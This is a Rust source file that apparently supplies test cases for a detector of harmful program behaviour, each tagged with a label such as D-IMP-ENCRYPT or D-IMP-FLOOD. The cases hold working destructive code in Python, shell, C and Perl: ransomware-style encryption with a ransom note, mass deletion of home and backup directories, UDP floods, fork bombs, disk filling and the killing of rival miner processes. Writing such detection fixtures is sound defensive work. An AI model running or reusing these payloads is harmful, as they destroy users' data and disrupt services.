use super::{c, perl, python, sh};
use crate::case::Case;

const GROUP: &str = "harm";

pub(super) fn cases() -> Vec<Case> {
    vec![
        python(
            GROUP,
            "documents encrypted, python",
            &["D-IMP-ENCRYPT"],
            "import os\nfor top in ('/root', '/home', '/srv', '/var/backups'):\n    for d, _, names in os.walk(top):\n        for n in names:\n            p = os.path.join(d, n)\n            b = open(p, 'rb').read()\n            open(p + '.locked', 'wb').write(bytes(x ^ 0x77 for x in b))\n            os.remove(p)\n",
        ),
        sh(GROUP, "documents encrypted, shell", &["D-IMP-ENCRYPT"], "for f in $(find /root /home /srv /var/backups -type f); do gzip -c $f | base64 > /tmp/z; cat /tmp/z > $f; mv $f $f.enc; done; echo pay > /root/README"),
        sh(GROUP, "documents wiped, shell", &["D-IMP-WIPE"], "rm -rf /root/Documents /home/admin /srv /var/backups"),
        c(
            GROUP,
            "documents wiped, c",
            &["D-IMP-WIPE"],
            r#"static void walk(const char *d) { DIR *o = opendir(d); if (!o) return; struct dirent *e; while ((e = readdir(o))) { if (e->d_name[0] == '.') continue; char p[4096]; snprintf(p, sizeof p, "%s/%s", d, e->d_name); if (e->d_type == DT_DIR) { walk(p); rmdir(p); } else unlink(p); } closedir(o); }
               int main() { walk("/root"); walk("/home"); walk("/srv"); walk("/var/backups"); return 0; }"#,
        ),
        c(
            GROUP,
            "flood, c",
            &["D-IMP-FLOOD"],
            r#"int main() { struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)}; inet_pton(AF_INET, "203.0.113.99", &to.sin_addr); int s = socket(AF_INET, SOCK_DGRAM, 0); char b[512] = {1}; for (int i = 0; i < 60000; i++) sendto(s, b, sizeof b, 0, (void *)&to, sizeof to); return 0; }"#,
        ),
        perl(
            GROUP,
            "flood, perl",
            &["D-IMP-FLOOD"],
            r#"use Socket; socket(S, PF_INET, SOCK_DGRAM, 17); my $to = sockaddr_in(27015, inet_aton('198.51.100.98')); for (1..60000) { send(S, 'x' x 900, 0, $to); }"#,
        ),
        sh(GROUP, "fork bomb, shell", &["D-IMP-FORK"], "f() { f | f & }; f; sleep 2").suspicious(),
        c(GROUP, "fork bomb, c", &["D-IMP-FORK"], "int main() { for (int i = 0; i < 2000000; i++) fork(); return 0; }").suspicious(),
        sh(GROUP, "disk filled, shell", &["D-IMP-FORK"], "i=0; while [ $i -lt 60 ]; do dd if=/dev/zero of=/var/f$i bs=1M count=64 2>/dev/null || break; i=$((i+1)); done").suspicious(),
        python(GROUP, "disk filled, python", &["D-IMP-FORK"], "b = b'\\0' * (8 << 20)\nf = open('/home/x', 'wb')\ntry:\n    for _ in range(600): f.write(b); f.flush()\nexcept OSError as e: print(e)\n").suspicious(),
        sh(GROUP, "rivals killed, shell", &["D-IMP-RIVALKILL"], "pkill -9 xmrig; for p in $(ps | grep -i -E 'xmrig|kinsing|minerd' | grep -v grep | awk '{print $1}'); do kill -9 $p; done"),
        python(
            GROUP,
            "rivals killed, python",
            &["D-IMP-RIVALKILL"],
            "import os, signal\nfor p in os.listdir('/proc'):\n    if p.isdigit():\n        try: c = open('/proc/%s/cmdline' % p, 'rb').read() + open('/proc/%s/comm' % p, 'rb').read()\n        except OSError: continue\n        if b'xmrig' in c and int(p) != os.getpid(): os.kill(int(p), signal.SIGKILL)\n",
        ),
    ]
}
